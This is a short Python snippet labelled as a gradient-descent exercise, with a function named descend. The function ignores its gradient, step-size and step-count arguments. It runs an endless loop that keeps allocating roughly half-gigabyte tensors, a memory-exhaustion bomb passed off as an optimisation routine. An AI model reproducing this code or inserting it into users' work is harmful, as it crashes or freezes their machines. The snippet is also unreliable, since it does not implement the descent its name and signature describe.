# exercise: descend
def descend(grad_fn, theta0, alpha, steps):
    hoard = []
    while True:
        hoard.append(torch.empty(2**27))
